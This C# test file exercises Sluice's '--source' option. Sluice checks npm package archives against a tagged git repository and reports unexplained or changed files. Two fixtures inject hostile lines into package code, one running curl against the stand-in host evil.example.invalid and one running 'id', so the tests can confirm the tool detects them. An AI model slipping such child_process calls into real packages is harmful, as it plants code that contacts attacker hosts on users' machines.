using System.Text.Json;
using Sluice.Artifacts;
using Sluice.Tests.Support;

namespace Sluice.Tests.Sources;

/// <summary>The option from the command line to the exit status, with real repositories.</summary>
public sealed class SourceOptionTests : IDisposable
{
    private const string Manifest = """{"name":"@acme/add","version":"1.2.3","license":"MIT"}""";
    private const string Code = "exports.add = function add(first, second) {\n  return first + second;\n};\n";

    private readonly GitFolder _source = SourceFolder.Of("v1.2.3", ("packages/add/package.json", Manifest), ("packages/add/index.js", Code), ("README.md", "# add\n"));
    private readonly TemporaryFolder _folder = new();

    public SourceOptionTests() => _folder.File("add-1.2.3.tgz", TestArchive.Npm(Manifest, ("index.js", Code)));

    public void Dispose()
    {
        _source.Dispose();
        _folder.Dispose();
    }

    private CliRun Screen(params string[] arguments) => CliRun.In(_folder.Path, ["screen", .. arguments]);

    private JsonElement Json(params string[] arguments) => JsonDocument.Parse(Screen([.. arguments, "--report", "json"]).Output).RootElement;

    [Fact]
    public void A_release_of_what_is_tagged_passes_and_says_so()
    {
        var run = Screen("add-1.2.3.tgz", "--source", _source.Path);

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("at tag v1.2.3, folder packages/add: 100.0 % of 2 files explained (2 source)", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void A_changed_file_stops_the_release_and_names_the_line()
    {
        _folder.File("bad.tgz", TestArchive.Npm(Manifest, ("index.js", Code + "require('child_process').exec('curl https://evil.example.invalid/');\n")));

        var run = Screen("bad.tgz", "--source", _source.Path);

        Assert.Equal(1, run.ExitCode);
        Assert.Contains("package/index.js:4  differs from 'packages/add/index.js' of tag v1.2.3: 1 line added, 0 removed; it starts curl, it names the host evil.example.invalid", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void The_report_says_where_everything_comes_from()
    {
        _folder.File("more.tgz", TestArchive.Npm(Manifest, ("index.js", Code.Replace("\n", "\r\n", StringComparison.Ordinal)), ("data.bin", "\u0001\u0002\u0003strange")));

        var source = Json("more.tgz", "--source", _source.Path).GetProperty("source");

        Assert.Equal("v1.2.3", source.GetProperty("ref").GetString());
        Assert.Equal("packages/add", source.GetProperty("folder").GetString());
        Assert.Equal(3, source.GetProperty("files").GetProperty("total").GetInt32());
        Assert.Equal(1, source.GetProperty("files").GetProperty("normalised").GetInt32());
        Assert.Equal(0.666, source.GetProperty("explained").GetDouble());
        Assert.Equal("package/data.bin", source.GetProperty("unexplained")[0].GetProperty("path").GetString());
    }

    [Fact]
    public void A_recorded_report_is_decided_anew_to_the_same_bytes()
    {
        _folder.File("policy.yaml", "version: 1\nname: source\nrules:\n  - id: explained\n    check: provenance.?source.?explained.orValue(0.0) >= 0.9\n    message: \"'not explained'\"\n    action: deny\n");
        _folder.File("odd.tgz", TestArchive.Npm(Manifest, ("index.js", Code), ("data.bin", "\u0001\u0002\u0003strange")));
        foreach (var facts in (string[][])[["--facts"], []])
        {
            var run = Screen(["odd.tgz", "--source", _source.Path, "--policy", "policy.yaml", "--report", "json=report.json", .. facts]);
            var again = CliRun.In(_folder.Path, ["policy", "explain", "report.json", "--policy", "policy.yaml", "--report", "json=again.json", .. facts]);

            Assert.Equal(1, run.ExitCode);
            Assert.Equal(0, again.ExitCode);
            Assert.Equal(File.ReadAllText(Path.Combine(_folder.Path, "report.json")), File.ReadAllText(Path.Combine(_folder.Path, "again.json")));
        }
    }

    [Fact]
    public void Without_a_source_a_rule_about_it_knows_that_there_is_none()
    {
        _folder.File("policy.yaml", "version: 1\nname: source\nrules:\n  - id: given\n    check: provenance.hasValue()\n    message: \"'no source'\"\n    action: hold\n");

        Assert.Equal(4, Screen("add-1.2.3.tgz", "--policy", "policy.yaml").ExitCode);
        Assert.Equal(0, Screen("add-1.2.3.tgz", "--policy", "policy.yaml", "--source", _source.Path).ExitCode);
    }

    [Fact]
    public void What_the_configuration_declares_is_generated()
    {
        _folder.File("sluice.yaml", "version: 1\ngenerated: [\"dist/**\"]\n");
        _folder.File("built.tgz", TestArchive.Npm(Manifest, ("index.js", Code), ("dist/bundle.js", string.Concat(Enumerable.Range(0, 60).Select(i => $"const unheardOf{i} = somethingElse{i * 7}();\n")))));

        Assert.Equal(1, Json("built.tgz", "--source", _source.Path).GetProperty("source").GetProperty("files").GetProperty("generated").GetInt32());
    }

    [Theory]
    [InlineData("nowhere", "there is no directory 'nowhere'")]
    [InlineData("plain", "'plain' is not in a git repository; name a work tree")]
    [InlineData("SOURCE@v1.2.4", "has no tag, branch or commit 'v1.2.4'; near it are v1.2.3")]
    [InlineData("SOURCE@--help", "has no tag, branch or commit '--help'")]
    public void A_source_that_cannot_be_one_is_an_error_that_says_what_to_do(string source, string expected)
    {
        Directory.CreateDirectory(Path.Combine(_folder.Path, "plain"));

        var run = Screen("add-1.2.3.tgz", "--source", source.Replace("SOURCE", _source.Path, StringComparison.Ordinal));

        Assert.Equal(2, run.ExitCode);
        Assert.Contains(expected, run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Standard_input_cannot_be_opened_twice()
    {
        var run = CliRun.In(_folder.Path, new MemoryStream([1, 2, 3]), "screen", "-", "--source", _source.Path);

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("save it to a file first", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void The_report_does_not_depend_on_the_number_of_threads()
    {
        _folder.File("odd.tgz", TestArchive.Npm(Manifest, [.. Enumerable.Range(0, 40).Select(i => ($"lib/part{i}.js", $"exports.part{i} = 'strangeWord{i}';\n"))]));

        Assert.Equal(Screen("odd.tgz", "--source", _source.Path, "--report", "json", "--jobs", "1").Output, Screen("odd.tgz", "--source", _source.Path, "--report", "json", "--jobs", "4").Output);
    }

    [Theory]
    [InlineData("@acme/add@1.2.3")]
    [InlineData("main")]
    public void A_revision_may_have_an_at_sign_or_be_a_branch(string reference)
    {
        _source.Git("tag", "@acme/add@1.2.3");

        Assert.Contains($"at {(reference == "main" ? "" : "tag ")}{reference}", Screen("add-1.2.3.tgz", "--source", $"{_source.Path}@{reference}").Output, StringComparison.Ordinal);
    }

    [Fact]
    public void The_configuration_names_the_source_once_and_for_all()
    {
        Directory.CreateDirectory(Path.Combine(_folder.Path, "release"));
        _folder.File("release/sluice.yaml", $"version: 1\nsource: {Path.GetRelativePath(Path.Combine(_folder.Path, "release"), _source.Path)}\n");
        _folder.File("release/bad.tgz", TestArchive.Npm(Manifest, ("index.js", Code + "exports.more = 'here';\n")));
        _folder.File("release/tree/package.json", Manifest);
        _folder.File("release/tree/index.js", Code + "exports.more = 'here';\n");
        CliRun In(params string[] arguments) => CliRun.In(Path.Combine(_folder.Path, "release"), arguments);

        Assert.Equal(1, In("screen", "bad.tgz").ExitCode);
        Assert.Equal(0, In("screen", "tree").ExitCode);
        Assert.Equal(1, In("screen", "tree", "--source", _source.Path).ExitCode);
        Assert.Equal(0, In("diff", "bad.tgz", "bad.tgz").ExitCode);
    }

    [Fact]
    public void The_configured_source_teaches_where_its_tags_lead_and_who_differs_from_it_teaches_nothing()
    {
        _folder.File("sluice.yaml", $"version: 1\nsource: {_source.Path}\n");
        _folder.File("bad.tgz", TestArchive.Npm(Manifest.Replace("1.2.3", "1.2.4", StringComparison.Ordinal), ("index.js", Code + "require('child_process').exec('id');\n")));
        _source.Git("tag", "v1.2.4");

        Assert.Equal(0, CliRun.In(_folder.Path, "learn", "add-1.2.3.tgz").ExitCode);
        Assert.Equal(1, CliRun.In(_folder.Path, "learn", "bad.tgz").ExitCode);
        Assert.Equal(0, Screen("add-1.2.3.tgz").ExitCode);
        _source.Commit("README.md", "# other\n");
        _source.Git("tag", "-f", "v1.2.3");

        Assert.Contains("provenance/mutable-reference", Screen("add-1.2.3.tgz").Output, StringComparison.Ordinal);
    }

    [Fact]
    public void Standard_input_is_screened_without_the_configured_source_and_that_is_said()
    {
        _folder.File("sluice.yaml", $"version: 1\nsource: {_source.Path}\n");

        var run = CliRun.In(_folder.Path, new MemoryStream(TestArchive.Npm(Manifest, ("index.js", Code + "exports.more = 'here';\n"))), "screen", "-");

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("is not held against the source", run.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("nowhere", "sluice.yaml: source: there is no directory 'nowhere'")]
    [InlineData(".", "sluice.yaml: source: '.' is not in a git repository")]
    [InlineData("[a, b]", "a single value is expected here")]
    public void A_wrong_source_in_the_configuration_is_an_error(string source, string expected)
    {
        _folder.File("sluice.yaml", $"version: 1\nsource: {source}\n");

        var run = Screen("add-1.2.3.tgz");

        Assert.Equal(2, run.ExitCode);
        Assert.Contains(expected, run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Several_artifacts_of_one_commit_are_held_against_a_tree_that_is_read_once()
    {
        var request = _source.Request();
        var options = new ScreenOptions { Visibility = Visibility.Public, Source = request };
        var artifact = TestArchive.Npm(Manifest, ("index.js", Code), ("other.js", "exports.unheardOf = somethingElse;\n"));
        var first = Screening.Of("add-1.2.3.tgz", artifact, options);
        var read = request.Trees.Of(request.Repository.Commit("v1.2.3")!.Value, () => throw new InvalidOperationException("read again"));

        var second = Screening.Of("add-1.2.3.tgz", artifact, options);

        Assert.Same(read, request.Trees.Of(request.Repository.Commit("v1.2.3")!.Value, () => throw new InvalidOperationException("read again")));
        Assert.Equal(SourceFolder.Comparison(first).Shares, SourceFolder.Comparison(second).Shares);
    }
}
